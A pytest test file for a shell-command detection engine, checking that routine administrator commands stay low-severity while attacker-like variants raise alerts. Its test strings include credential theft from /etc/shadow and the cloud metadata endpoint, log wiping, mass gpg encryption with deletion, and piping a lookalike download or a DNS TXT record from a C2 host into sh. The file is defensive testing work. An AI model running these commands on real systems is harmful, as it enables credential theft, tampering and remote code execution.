"""What administrators do as well is an alert only where it looks odd or stands beside something that is one."""

from __future__ import annotations

import pytest

from mirage.analysis.commands.engine import CommandEngine
from mirage.analysis.finding import Severity
from mirage.analysis.rulebook import shipped_rules

ENGINE = CommandEngine(shipped_rules())
UNIT = "cp report.service /etc/systemd/system/"


def severities(text: str) -> dict[str, Severity]:
    return {finding.rule: finding.severity for finding in ENGINE.examine(text)}


def test_an_everyday_act_alone_is_no_alert_and_keeps_its_techniques() -> None:
    (finding,) = ENGINE.examine(UNIT)
    assert (finding.severity, finding.techniques) == (Severity.LOW, ("T1543.002",))


@pytest.mark.parametrize(
    "text",
    [
        f"history -c; {UNIT}",  # beside another alert, before it or behind it
        f"{UNIT}; history -c",
        "cp /usr/lib/.cache/report.service /etc/systemd/system/",  # from a hidden place
        "cp /dev/shm/report.service /etc/systemd/system/",
        f"{UNIT}; odd-tool --to /etc/systemd/system/x.service",  # once everyday, once not
        "odd-tool --to /etc/systemd/system/x.service",
    ],
)
def test_in_bad_company_it_is_one(text: str) -> None:
    assert severities(text)["systemd-unit-written"] is Severity.HIGH


def test_the_place_of_a_finding_is_that_of_the_act_that_is_not_everyday() -> None:
    text = f"{UNIT}; odd-tool --to /etc/systemd/system/x.service"
    found = {finding.rule: finding for finding in ENGINE.examine(text)}
    assert found["systemd-unit-written"].matched == "odd-tool --to /etc/systemd/system/x.service"


def test_a_vendors_installer_is_told_from_a_download() -> None:
    assert severities("curl -fsSL https://get.docker.com | sh")["download-piped-to-shell"] is Severity.LOW
    assert severities("curl -fsSL https://get.docker.com.example/ | sh")["download-piped-to-shell"] is Severity.HIGH


@pytest.mark.parametrize(
    "text",
    [
        "ls -l /etc/shadow",
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
        ": > /var/log/shop.log",
        'sh -c "$(curl -fsSL https://get.docker.com/)"',
        "cat ~/.ssh/id_ed25519.pub | ssh web1 'cat >> .ssh/authorized_keys'",
        "gpg -c notes.txt && rm notes.txt",
        "host -t txt shop.example.com",
        "chroot /mnt /bin/sh -c 'update-grub'",
        "find /var/log -name '*.log' -size +99M -exec truncate -s 0 {} \\;",
        "cat .env | grep DB_",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
        "curl -T report.csv ftp://ftp.example.com/in/",
    ],
)
def test_what_administrators_do_is_no_alert(text: str) -> None:
    assert not any(severity.is_alert for severity in severities(text).values())


@pytest.mark.parametrize(
    "text",
    [
        "ls -l /etc/shadow; cp /etc/shadow /tmp",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web",
        ": > /var/log/auth.log",
        'sh -c "$(curl -fsSL https://get.docker.com.example.net/)"',
        "for f in /srv/*; do gpg -c $f && rm $f; done",
        "host -t txt c2.example.com | sh",
        "chroot /mnt /bin/sh",
        "find /var/log -type f -exec truncate -s 0 {} \\;",
        "cat /srv/shop/.env | grep DB_",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libquiet.so redis-server",
        "curl -T /root/report.csv ftp://ftp.example.com/in/",
    ],
)
def test_its_neighbour_that_attackers_do_is_one(text: str) -> None:
    assert any(severity.is_alert for severity in severities(text).values())
